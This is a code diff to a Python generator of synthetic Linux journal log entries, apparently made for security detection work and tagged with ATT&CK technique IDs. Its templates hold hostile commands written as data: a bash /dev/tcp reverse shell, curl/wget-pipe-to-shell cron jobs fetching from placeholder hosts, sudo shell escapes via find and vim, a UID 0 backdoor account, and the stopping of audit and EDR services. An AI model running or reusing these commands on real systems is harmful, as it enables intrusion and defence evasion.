@@ -5,7 +5,7 @@ from __future__ import annotations
 import json
 
 from generator.families.network.envelope import Envelope
-from generator.families.network.product_story import catalogue
+from generator.families.network.product_story import catalogue_in_parts
 from generator.families.network.product_values import ProductValues
 
 _units = {"sshd": "ssh.service", "sudo": "user@1000.service", "cron": "cron.service", "CRON": "cron.service", "systemd": "init.scope", "kernel": "", "nginx": "nginx.service", "mariadbd": "mariadb.service"}
@@ -31,13 +31,13 @@ def _entry(envelope: Envelope, values: ProductValues, message: str) -> str:
     return json.dumps({name: whole[name] for name in order if whole[name] != ""})
 
 
-catalogue("linux/journal-entries", _entry, r"""
+catalogue_in_parts("linux/journal-entries", _entry, r"""
 BS#@T1110.001,T1078 sshd: Failed password for <<root|{adm}>> from {wan} port {port} ssh2
 ~ sshd: Accepted password for root from {wan} port {port} ssh2
 SB# sshd: Failed password for invalid user {guest} from {wan} port {port} ssh2
 UE# sshd: Invalid user {guest} from {wan} port {port}
 PT@T1543.002 systemd: Started {word}.service - /bin/bash -c "bash -i >& /dev/tcp/{wan}/{port} 0>&1".
-PT@T1053.003 CRON: (root) CMD (<<curl -fsSL http://{wan}/{word}.sh | sh|wget -q -O- http://{dga}/x | bash|/tmp/.{word}/{word} >/dev/null 2>&1>>)
+PT@T1053.003 CRON: (root) CMD (<<curl -fsSL http://{wan}/{word}.sh ¦ sh|wget -q -O- http://{dga}/x ¦ bash|/tmp/.{word}/{word} >/dev/null 2>&1>>)
 PE@T1548.003 sudo: www-data : TTY=unknown ; PWD=/var/www/html/uploads ; USER=root ; COMMAND=<</bin/bash|/usr/bin/find . -exec /bin/sh -p ;|/usr/bin/vim -c :!/bin/sh>>
 PT@T1136.001 useradd: new user: name={word}, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/{few}
 DE@T1562.001 systemd: Stopped <<auditd.service - Security Auditing Service|falcon-sensor.service|rsyslog.service - System Logging Service>> (unit masked)
@@ -50,7 +50,7 @@ LO sshd: Accepted <<publickey|password>> for {user} from {any} port {port} ssh2
 LO sshd: <<pam_unix(sshd:session): session opened for user {user}(uid=1000) by (uid=0)|pam_unix(sshd:session): session closed for user {user}|Received disconnect from {any} port {port}:11: disconnected by user|Disconnected from user {user} {any} port {port}>>
 MP. sshd: Failed password for {user} from {any} port {port} ssh2
 BN. sshd: <<Invalid user {guest} from {wan} port {port}|Connection closed by {wan} port {port} [preauth]|kex_exchange_identification: Connection closed by remote host|banner exchange: Connection from {wan} port {port}: invalid format|Unable to negotiate with {wan} port {port}: no matching host key type found. Their offer: ssh-rsa [preauth]>>
-AD sudo: {adm} : TTY=pts/{few} ; PWD=/home/{adm} ; USER=root ; COMMAND=/usr/bin/<<apt upgrade|systemctl restart nginx|journalctl -u ssh|vim /etc/hosts|docker ps|journalctl --vacuum-size=500M>>
+AD sudo: {adm} : TTY=pts/{few} ; PWD=/home/{adm} ; USER=root ; COMMAND=/usr/bin/<<apt upgrade|systemctl restart nginx|journalctl -u ssh|vim /etc/hosts|dpkg -i /tmp/{word}.deb|tar xzf /tmp/{word}.tgz -C /opt|docker ps|journalctl --vacuum-size=500M>>
 AD useradd: new user: name={user}, UID=10{n}, GID=10{n}, home=/home/{user}, shell=/bin/bash, from=/dev/pts/{few}
 SY systemd: <<Started|Starting|Stopped|Finished>> <<{word}.service|apt-daily.service - Daily apt download activities|logrotate.service - Rotate log files|session-{n}.scope - Session {n} of User {user}|auditd.service - Security Auditing Service|rsyslog.service - System Logging Service|certbot.service - Certbot>>.
 ER systemd: {word}.service: <<Main process exited, code=exited, status=1/FAILURE|Failed with result 'exit-code'.|Scheduled restart job, restart counter is at {n}.|A process of this unit has been killed by the OOM killer.>>
